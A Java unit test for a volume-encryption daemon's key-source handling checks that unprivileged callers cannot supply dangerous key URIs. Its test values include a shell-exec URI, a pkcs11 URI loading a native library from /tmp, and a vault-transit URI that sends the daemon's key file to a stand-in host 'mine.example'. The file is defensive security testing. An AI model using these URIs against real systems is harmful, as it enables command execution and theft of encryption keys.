package io.blockseal.app.verb;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.blockseal.app.console.CommandException;
import io.blockseal.control.Arguments;
import io.blockseal.crypto.java.JavaCryptoEngine;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Who may give orders to a volume may not thereby run programs or load native code as the daemon, nor have it show what
 * stands in its files to a server of his.
 */
class SentKeysTest {
    private static SentKeys sent(String uri, boolean mayAsk) {
        Arguments key = new Arguments().text("kind", "source").text("uri", uri);
        return new SentKeys(
                new Arguments().group(SentKeys.KEY, key), new JavaCryptoEngine(), named -> mayAsk && named.equals(uri));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "exec:/bin/sh?arg=-c&arg=id",
                "pkcs11:token=t;object=k?module-path=/tmp/mine.so",
                "vault-transit:https://mine.example/transit/k?token-file=/etc/blockseal/db.key"
            })
    void noSourceIsAskedButForThoseWhoMayDoThatAnyway(String uri) throws Exception {
        try (SentKeys keys = sent(uri, true)) {
            String named = keys.opening().reference();
            assertTrue(uri.startsWith(named.substring(0, named.indexOf(':') + 1)), named);
        }
        try (SentKeys keys = sent(uri, false)) {
            String words = assertThrows(CommandException.class, keys::opening).getMessage();
            assertTrue(words.contains("only root and the daemon's own user"), words);
        }
    }
}
